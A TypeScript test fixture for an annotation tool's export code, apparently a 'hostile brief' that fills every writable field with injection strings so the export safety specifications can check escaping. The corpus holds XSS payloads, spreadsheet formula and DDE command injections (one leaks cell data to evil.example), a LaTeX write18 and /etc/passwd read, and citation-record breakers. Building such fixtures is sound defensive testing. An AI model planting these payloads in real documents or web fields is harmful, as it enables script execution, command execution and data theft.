/**
 * The hostile brief of the export safety specifications: an XSS, formula and record-breaking
 * corpus placed in every field a reader can write (the document's text and record, notes,
 * attributes of every kind, evidence sources, comments, relation notes, creator names), then
 * attributes no validation would have let in, as an older store or a foreign import might hold.
 */
import {
  addComment,
  type Codebook,
  createAnnotation,
  createRelation,
  defaultCodebook,
} from '@warrant/annotations'
import { CONTENT_FRAGMENT, type CslItem, schema, writeContent } from '@warrant/document'
import * as Y from 'yjs'
import { spanIn } from './brief.testkit'
import type { ClaimsInput } from './claims'
import { exportInput } from './input'

/** Markup, script addresses, spreadsheet formulas and record breakers. */
export const corpus = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '[click me](javascript:alert(1))',
  '![image](javascript:alert(1))',
  '[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '{"json": "break"}',
  '\\immediate\\write18{calc} \\input{/etc/passwd}',
  '}, title = {pwned',
  '@misc{evil, title={x}} {{{',
  '<i>never closed <b>bold',
  'a\nER  - \nTY  - JOUR\nTI  - injected',
  '# heading\n- list\n> quote\n    code\n| a | b |',
  '\u202Egnp.exe\u202C and \u2066isolate\u2069 and \u200Bzero width',
  'line\u2028separator\u2029paragraph\u0085next',
]

/** A custom kind with a text and a URL field, so declared fields are covered too. */
const codebook: Codebook = {
  kinds: [
    ...defaultCodebook.kinds,
    {
      key: 'hypothesis',
      label: 'Hypothesis',
      description: '',
      colour: '#eeeeee',
      shortcut: '',
      fields: [
        { key: 'summary', label: 'Summary', type: 'text' },
        { key: 'link', label: 'Link', type: 'url' },
      ],
    },
  ],
}

const kinds = ['claim', 'evidence', 'prediction', 'statistic', 'source', 'actor', 'hypothesis']

/** The passage annotation `i` is made on: its number and payload, alone in a paragraph. */
export function passage(i: number): string {
  return `Passage ${String(i).padStart(2, '0')}: ${corpus[i]!.replace(/\s+/g, ' ')}`
}

/** A CSL item whose every field a reference manager shows is the payload. */
export function sourceItem(payload: string, i: number): CslItem {
  return {
    id: `source-${i}`,
    type: 'article-journal',
    title: payload,
    'container-title': payload,
    publisher: payload,
    author: [{ family: payload, given: 'Given' }, { literal: payload }, { family: payload }],
    URL: payload,
    DOI: payload,
    issued: { 'date-parts': [[2020]] },
  }
}

/** Attributes of `kind` holding `payload` wherever the kind's validation lets free text in. */
function attributesOf(kind: string, payload: string, i: number): Record<string, unknown> {
  const url = `https://example.org/?q=${encodeURIComponent(payload)}`
  switch (kind) {
    case 'evidence':
      return { source: sourceItem(payload, i) }
    case 'prediction':
      return { due: '2025-01-01', outcome: 'pending', resolution: payload }
    case 'statistic':
      return { value: -2, unit: payload, period: payload, place: payload }
    case 'source':
      return { item: { type: 'webpage', title: payload, URL: url } }
    case 'actor':
      return { name: payload }
    case 'hypothesis':
      return { summary: payload, link: url }
    default:
      return { claimType: 'causal', status: 'disputed', confidence: 0.5 }
  }
}

/** The brief's text: a heading holding a payload, then one paragraph per payload. */
function hostileContent(): Y.Doc {
  const doc = schema.node('doc', null, [
    schema.node('heading', { level: 1 }, schema.text(`Heading ${corpus[16]}`)),
    ...corpus.map((_, i) => schema.node('paragraph', null, schema.text(passage(i)))),
  ])
  const content = new Y.Doc()
  writeContent(doc, content)
  return content
}

/** The export input of the hostile brief, annotated through the validated write paths. */
export function hostileInput(): ClaimsInput {
  const content = hostileContent()
  const fragment = content.getXmlFragment(CONTENT_FRAGMENT)
  const annotations = new Y.Doc()
  const ids = corpus.map((payload, i) => {
    const kind = kinds[i % kinds.length]!
    const { id } = createAnnotation(
      annotations,
      fragment,
      {
        kind,
        span: spanIn(content, passage(i)),
        attributes: attributesOf(kind, payload, i),
        note: payload,
        creator: payload,
        now: new Date(Date.UTC(2024, 0, 1, 0, i)).toISOString(),
      },
      { codebook },
    )
    addComment(annotations, { annotation: id, text: payload, creator: payload })
    return { id, kind }
  })
  // Every piece of evidence both supports and contradicts every claim, with a payload note.
  ids.forEach(({ id, kind }, i) => {
    if (kind !== 'evidence') return
    for (const claim of ids.filter((a) => a.kind === 'claim')) {
      for (const type of ['supports', 'contradicts'] as const) {
        createRelation(annotations, {
          type,
          from: id,
          to: claim.id,
          note: corpus[i]!,
          creator: corpus[i]!,
        })
      }
    }
  })
  const record: CslItem = {
    id: 'hostile-brief',
    type: 'report',
    title: corpus[0]!,
    author: [{ family: corpus[33]!, given: corpus[2]! }, { literal: corpus[34]! }],
    publisher: corpus[24]!,
    URL: corpus[9]!,
  }
  const input = exportInput(
    { id: 'hostile', record, content, annotations },
    { exportedAt: '2024-12-01T12:00:00.000Z' },
  )
  return withUnvalidatedAttributes(input)
}

/** The input with attributes only an unchecked store holds: payloads in enums, dates, keys. */
function withUnvalidatedAttributes(input: ClaimsInput): ClaimsInput {
  let n = 0
  const annotations = input.annotations.map((a) => {
    const payload = corpus[n++ % corpus.length]!
    const extra: Record<string, unknown> =
      a.kind === 'claim'
        ? { claimType: payload, status: payload, confidence: payload }
        : a.kind === 'prediction'
          ? { due: payload, outcome: payload }
          : { [corpus[24]!]: payload }
    return { ...a, attributes: { ...a.attributes, ...extra } }
  })
  return { ...input, annotations }
}
